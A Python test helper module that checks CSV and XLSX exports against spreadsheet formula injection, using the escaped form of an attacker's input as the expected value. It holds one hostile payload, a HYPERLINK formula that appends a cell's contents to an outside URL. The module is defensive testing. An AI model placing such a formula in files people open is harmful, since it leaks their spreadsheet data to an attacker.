"""Checks that a written CSV or XLSX file cannot attack the spreadsheet that opens it."""

from __future__ import annotations

import csv
import re
from pathlib import Path

#: what an attacker types as a name or a title (OWASP's example, as the audit used it)
HOSTILE = '=HYPERLINK("http://x"&A1,"y")'
#: the same, as the table writer must leave it: text, with a leading quote
INERT = "'" + HOSTILE
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def csv_cells(path: Path) -> list[list[str]]:
    with Path(path).open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def assert_inert_csv(path: Path, *, expect: str = INERT) -> None:
    """No cell begins like a formula unless it is a plain number; ``expect`` is in the file."""
    cells = [c for row in csv_cells(path) for c in row]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(_PLAIN_NUMBER.match(c) for c in live), f"{path.name}: live cells {live[:5]}"
    assert expect in cells, f"{path.name}: {expect!r} not written"


def assert_inert_xlsx(path: Path | bytes, *, expect: str = INERT) -> None:
    """No formula cell, no text beginning with "="; ``expect`` is in the workbook."""
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(path) if isinstance(path, bytes) else path)
    seen: list[object] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                assert not (isinstance(cell.value, str) and cell.value.startswith("=")), (
                    f"{ws.title}!{cell.coordinate} = {cell.value!r}"
                )
                seen.append(cell.value)
    assert expect in seen, f"{expect!r} not written"
